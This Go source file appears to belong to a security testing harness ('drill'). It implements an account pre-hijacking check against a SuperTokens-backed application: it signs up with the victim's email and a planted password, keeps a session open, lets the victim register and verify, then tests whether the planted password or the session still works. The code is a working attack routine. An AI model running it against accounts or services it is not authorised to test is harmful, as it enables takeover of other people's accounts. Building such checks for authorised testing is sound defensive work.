package drill

import (
	"context"
	"fmt"
	"net/http"
)

// preHijackByClaim: a stranger signs up with the victim's address at an application whose accounts work before their mailbox is proved, and
// keeps the password and an open session. The victim then signs up natively and proves the mailbox.
func preHijackByClaim(ctx context.Context, t *Target) (Verdict, error) {
	if t.SuperKey == "" {
		return Verdict{}, fmt.Errorf("the target names no key of an application's backend")
	}
	const planted = "the stranger knows this one"
	email := Fresh("claimed")
	backend := t.Visitor()
	backend.Header.Set("api-key", t.SuperKey)
	say := func(path string, body any) (*Reply, error) {
		r, err := backend.Post(ctx, "/supertokens"+path, body)
		if err == nil && r.Status != http.StatusOK {
			err = fmt.Errorf("%s: %s", path, r)
		}
		return r, err
	}
	r, err := say("/recipe/signup", map[string]any{"email": email, "password": planted})
	if err != nil || r.Text("status") != "OK" {
		return Verdict{}, fmt.Errorf("the stranger's sign-up: %v %w", r, err)
	}
	opened, err := say("/recipe/session", map[string]any{
		"userId": r.Text("user.id"), "userDataInJWT": map[string]any{}, "userDataInDatabase": map[string]any{}, "enableAntiCsrf": false,
	})
	if err != nil {
		return Verdict{}, err
	}
	if err := proveNatively(ctx, t, email); err != nil {
		return Verdict{}, err
	}
	if r, err = say("/recipe/signin", map[string]any{"email": email, "password": planted}); err != nil {
		return Verdict{}, err
	}
	if r.Text("status") == "OK" {
		return succeeded("the planted password signs the stranger in through the application")
	}
	r, err = say("/recipe/session/refresh", map[string]any{
		"refreshToken": opened.Text("refreshToken.token"), "enableAntiCsrf": false, "useDynamicSigningKey": true,
	})
	if err != nil {
		return Verdict{}, err
	}
	if r.Text("status") == "OK" {
		return succeeded("the session that the stranger opened before goes on")
	}
	return afterPlanted(ctx, t.Visitor(), email, planted)
}

// proveNatively is the victim's own sign-up, in one browser.
func proveNatively(ctx context.Context, t *Target, email string) error {
	victim := t.Visitor()
	r, err := victim.Post(ctx, "/register", map[string]string{"email": email, "password": Password, "client_id": t.ClientID})
	if err != nil || r.Status != http.StatusAccepted {
		return fmt.Errorf("register: %v %w", r, err)
	}
	link, err := t.Link(ctx, email, 1)
	if err != nil {
		return err
	}
	r, err = victim.Post(ctx, link, map[string]string{"password": Password})
	if err != nil || r.Status >= 400 {
		return fmt.Errorf("the victim's proof: %v %w", r, err)
	}
	return nil
}
